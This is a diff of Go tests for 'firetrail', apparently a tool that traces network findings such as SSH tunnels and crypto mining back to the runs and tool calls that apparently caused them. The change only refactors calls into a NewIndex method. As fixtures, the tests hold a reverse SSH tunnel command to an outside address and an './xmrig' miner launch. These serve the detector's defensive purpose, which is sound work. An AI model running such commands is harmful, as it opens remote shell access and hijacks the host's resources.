@@ -148,7 +148,7 @@ func TestFindings(t *testing.T) {
 	} {
 		t.Run(c.name, func(t *testing.T) {
 			fs := []firetrail.Finding{c.f}
-			Findings(c.inv, fs, c.opt)
+			NewIndex(c.inv, c.opt).Findings(fs)
 			f := &fs[0]
 			sums(t, f)
 			p := 0.0
@@ -224,12 +224,12 @@ func TestSharedAddress(t *testing.T) {
 	for _, k := range []int{1, 4, 16, 64} {
 		t.Run(fmt.Sprint(k), func(t *testing.T) {
 			named := []firetrail.Finding{found(sshTunnel, src, dst, 443, noon)}
-			Findings(sharing(k, "ssh -R 1:localhost:22 u@203.0.113.9", noon-5*second), named, Options{})
+			NewIndex(sharing(k, "ssh -R 1:localhost:22 u@203.0.113.9", noon-5*second), Options{}).Findings(named)
 			if r := named[0].Run; r == nil || r.ID != "r-000" || r.Probability < .9 {
 				t.Errorf("named peer: %+v %s", r, named[0].Unattributed)
 			}
 			blind := []firetrail.Finding{found(sshTunnel, src, dst, 443, noon)}
-			Findings(sharing(k, "", noon-5*second), blind, Options{})
+			NewIndex(sharing(k, "", noon-5*second), Options{}).Findings(blind)
 			sums(t, &blind[0])
 			if len(blind[0].Candidates) != k+1 {
 				t.Errorf("%d candidates, want %d and the background", len(blind[0].Candidates), k)
@@ -255,19 +255,19 @@ func TestTranslatedAddress(t *testing.T) {
 	f := found(sshTunnel, "198.51.100.1", dst, 443, noon)
 	inv.NAT = []firetrail.NAT{nat("10.1.0.2", dst, noon), nat("10.1.0.3", "203.0.113.77", noon), nat("10.1.0.1", dst, noon-3*hour)}
 	one := []firetrail.Finding{f}
-	Findings(inv, one, Options{})
+	NewIndex(inv, Options{}).Findings(one)
 	if r := one[0].Run; r == nil || r.ID != "r-2" || !strings.Contains(one[0].Candidates[0].Reasons[1], "nat.log:7") {
 		t.Errorf("one translation fits: %+v %+v", r, one[0].Candidates)
 	}
 	inv.NAT = append(inv.NAT, nat("10.1.0.1", dst, noon))
 	two := []firetrail.Finding{f}
-	Findings(inv, two, Options{})
+	NewIndex(inv, Options{}).Findings(two)
 	if two[0].Run != nil || len(two[0].Candidates) != 3 {
 		t.Errorf("two insiders fit: %+v %+v", two[0].Run, two[0].Candidates)
 	}
 	inv.NAT = nil
 	none := []firetrail.Finding{f}
-	Findings(inv, none, Options{})
+	NewIndex(inv, Options{}).Findings(none)
 	if none[0].Run != nil || !strings.Contains(none[0].Unattributed, "translation") {
 		t.Errorf("no table: %+v", none[0].Attribution)
 	}
@@ -281,7 +281,7 @@ func TestRecursInIdleTime(t *testing.T) {
 	for i := range fs {
 		fs[i].ID = fmt.Sprint("f-", i)
 	}
-	Findings(inv, fs, Options{})
+	NewIndex(inv, Options{}).Findings(fs)
 	for i := range fs {
 		sums(t, &fs[i])
 		if fs[i].Run != nil {
@@ -298,7 +298,7 @@ func TestLevelRecurs(t *testing.T) {
 		Calls: []firetrail.ToolCall{call("r-1", args, noon, noon+second, 1), call("r-2", args, noon+hour, noon+hour+second, 2)},
 	}
 	fs := []firetrail.Finding{found(sshTunnel, src, dst, 443, noon), found(sshTunnel, "10.20.3.8", dst, 443, noon+hour)}
-	Findings(inv, fs, Options{})
+	NewIndex(inv, Options{}).Findings(fs)
 	for i := range fs {
 		if fs[i].Run == nil || fs[i].Run.Level != "A5" {
 			t.Errorf("finding %d: %+v", i, fs[i].Run)
@@ -310,7 +310,7 @@ func TestSameInputSameAnswer(t *testing.T) {
 	noon := at(12 * 3600)
 	answer := func() []firetrail.Finding {
 		fs := []firetrail.Finding{found(sshTunnel, src, dst, 443, noon, noon+hour), found(mining, src, "203.0.113.10", 3333, noon+second)}
-		Findings(sharing(16, "./xmrig", noon-5*second), fs, Options{})
+		NewIndex(sharing(16, "./xmrig", noon-5*second), Options{}).Findings(fs)
 		return fs
 	}
 	if a, b := answer(), answer(); !reflect.DeepEqual(a, b) {
